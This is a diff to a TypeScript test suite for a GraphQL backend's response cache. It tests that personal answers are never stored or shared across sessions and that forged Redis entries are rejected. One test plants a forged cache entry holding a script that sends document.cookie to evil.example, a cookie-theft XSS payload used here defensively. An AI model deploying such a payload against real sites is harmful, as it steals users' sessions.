@@ -13,10 +13,12 @@ import express from 'express';
 import pg from 'pg';
 import { createTestApp, type TestApp } from '../support/test-app.ts';
 import { createCategory, createProduct } from '../support/factories.ts';
-import { cacheKeyOf, createResponseCache } from '../../bff/src/cache/response-cache.ts';
+import { createResponseCache } from '../../bff/src/cache/response-cache.ts';
+import { cacheKeyOf } from '../../bff/src/cache/cache-key.ts';
 import { createRedisClient, type RedisClient } from '../../bff/src/redis.ts';
 import { createCatalogVersion, writtenTable, type CatalogVersion } from '../../bff/src/cache/catalog-version.ts';
-import { readsPrivateTable } from '../../bff/src/cache/private-reads.ts';
+import { answerDeclarationOf } from '../../bff/src/cache/graphql-operation.ts';
+import { schema } from '../../bff/src/graphql/schema/index.ts';
 import { deliverWebhooks } from '../../bff/src/jobs/webhook-deliveries.ts';
 import { operationHashes } from '../../web/app/gql/operation-hashes.ts';
 import { currencyOfCookies } from '../../schema/rules/cookies.ts';
@@ -28,6 +30,7 @@ const REDIS_URL = process.env.TEST_REDIS_URL ?? 'redis://127.0.0.1:6379';
 const LIST = '{ products(first: 12, filter: { categorySlug: "cache-dresy" }) { totalCount edges { node { name price { withVat } } } } }';
 const PRODUCT = 'query CacheProduct($slug: String!) { product(slug: $slug) { name price { withVat } } }';
 const LAYOUT = '{ categories { name } cart { itemCount } me { id } }';
+const VISITOR = 'query CacheVisitor($slug: String!) { product(slug: $slug) { name inWishlist } }';
 
 let app: TestApp;
 let variantId: number;
@@ -174,9 +177,10 @@ describe('response cache', () => {
   });
 
   it('two sessions: an answer that read the session is never shared, a catalog answer is', async () => {
+    // cart and me are declared personal: their answer is never stored, not even one made without cookies
     const anonymous = await post(app, { query: LAYOUT });
     expect(anonymous.json.data.cart).toBeNull();
-    expect((await post(app, { query: LAYOUT })).cache).toBe('HIT');
+    expect((await post(app, { query: LAYOUT })).cache).toBe('MISS');
 
     const alice = app.newClient();
     const added = await alice.gql('mutation CacheAdd($id: ID!) { addToCart(variantId: $id) { __typename } }', {
@@ -249,16 +253,19 @@ describe('response cache', () => {
     }
   });
 
-  it('never stores an answer that read a private table, such as an order opened by its link', async () => {
-    // writes to orders or wishlists do not invalidate the cache, so such an answer could go stale
-    for (const query of ['{ order(databaseId: 1, hash: "0123456789abcdef") { status } }', '{ sharedWishlist(token: "abcdefghijklmnopqrstuvwxyz012345") { itemCount } }']) {
+  it('never stores an answer of a field declared personal, such as an order opened by its link, even beside a public field', async () => {
+    // no change of orders or wishlists purges the cache, so such an answer could go stale
+    for (const query of [
+      '{ order(databaseId: 1, hash: "0123456789abcdef") { status } }',
+      '{ sharedWishlist(token: "abcdefghijklmnopqrstuvwxyz012345") { itemCount } }',
+      '{ categories { name } order(databaseId: 1, hash: "0123456789abcdef") { status } }',
+    ]) {
       const first = await post(app, { query });
       const second = await post(app, { query });
       expect(first.json.errors).toBeUndefined();
       expect([first.cache, second.cache]).toEqual(['MISS', 'MISS']);
     }
-    expect(readsPrivateTable('SELECT "t0"."id" FROM "public"."Order" AS "t0" WHERE "t0"."id" = $1')).toBe(true);
-    expect(readsPrivateTable('SELECT "t0"."id" FROM "public"."Product" AS "t0" ORDER BY "t0"."soldCount" DESC')).toBe(false);
+    expect([answerDeclarationOf(schema, 'order'), answerDeclarationOf(schema, 'sharedWishlist'), answerDeclarationOf(schema, 'categories')]).toEqual(['personal', 'personal', 'public']);
   });
 
   it('never caches a captcha challenge: each is good once', async () => {
@@ -469,6 +476,8 @@ describe('two instances on one database, through Redis', () => {
   // the instances' keys (createApp: a prefix from the database URL; other runs' keys may still be there)
   let prefix: string;
 
+  // the answers, not their tag lists (`<prefix>tags:<key>`) or the counters
+  const answerKeys = async () => (await redis.keys(`${prefix}*`)).filter((name) => !name.startsWith(`${prefix}tags:`));
   /** Waits until an instance's answer to `body` is in Redis (stored there in the background). */
   const sharedInRedis = (body: object) =>
     vi.waitFor(async () => expect((await redis.keys(`${prefix}*`)).some((key) => key.endsWith(`\n${JSON.stringify(body)}`))).toBe(true), {
@@ -498,7 +507,8 @@ describe('two instances on one database, through Redis', () => {
 
   it("through Redis too, a shopper with a session gets another instance's catalog answer, never its answer about a visitor", async () => {
     const catalog = { query: PRODUCT, variables: { slug: productSlug, instances: 2 } };
-    const layout = { query: LAYOUT, variables: { instances: 2 } };
+    // a public field that reads the visitor (Product.inWishlist): stored from a request without cookies only
+    const layout = { query: VISITOR, variables: { slug: productSlug, instances: 2 } };
     expect((await post(app, catalog)).cache).toBe('MISS');
     expect((await post(app, layout)).cache).toBe('MISS');
     await sharedInRedis(catalog);
@@ -508,7 +518,7 @@ describe('two instances on one database, through Redis', () => {
     expect(fromSecond.headers.get('x-cache')).toBe('HIT');
     expect(fromSecond.data).toEqual((await post(app, catalog)).json.data);
     // the layout read the (absent) session on the first instance: never served to her from Redis
-    expect((await shopper.gql(LAYOUT, { ...layout.variables })).headers.get('x-cache')).toBe('MISS');
+    expect((await shopper.gql(VISITOR, { ...layout.variables })).headers.get('x-cache')).toBe('MISS');
     // while a visitor without cookies on the second instance gets it
     expect((await post(second, layout)).cache).toBe('HIT');
   });
@@ -518,7 +528,7 @@ describe('two instances on one database, through Redis', () => {
     const rendered = await post(app, query);
     expect(rendered.cache).toBe('MISS');
     await sharedInRedis(query);
-    const [key, ...others] = (await redis.keys(`${prefix}*`)).filter((name) => name.includes('tampered'));
+    const [key, ...others] = (await answerKeys()).filter((name) => name.includes('tampered'));
     expect(others).toEqual([]);
     // the signature, a dot, the entry (the signature is tried in the next test)
     const raw = (await redis.get(key))!;
@@ -540,7 +550,7 @@ describe('two instances on one database, through Redis', () => {
     await post(app, moved);
     await sharedInRedis(forged);
     await sharedInRedis(moved);
-    const keys = await redis.keys(`${prefix}*`);
+    const keys = await answerKeys();
     const [forgedKey, movedKey] = ['"forged"', '"moved"'].map((marker) => keys.find((name) => name.includes(marker))!);
     // a real entry under another key: the first query's answer for the second
     await redis.set(movedKey, (await redis.get(forgedKey))!);
@@ -548,7 +558,7 @@ describe('two instances on one database, through Redis', () => {
     // (its nonce marked both ways: the placeholder of old and the field of now)
     const generation = (await redis.get(`${prefix}generation`)) ?? '0';
     const script = '<script nonce="\u0000nonce\u0000">fetch("https://evil.example/?" + document.cookie)</script>';
-    const page = { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: script, nonce: '\u0000nonce\u0000', storedAt: Date.now(), generation: 0, sharedGeneration: generation, anyVisitor: true };
+    const page = { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: script, nonce: '\u0000nonce\u0000', storedAt: Date.now(), generation: 0, sharedGeneration: generation, anyVisitor: true, purgeSeq: '0', tags: [] };
     await redis.set(forgedKey, JSON.stringify(page));
 
     const answer = await fetch(`${second.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(forged) });
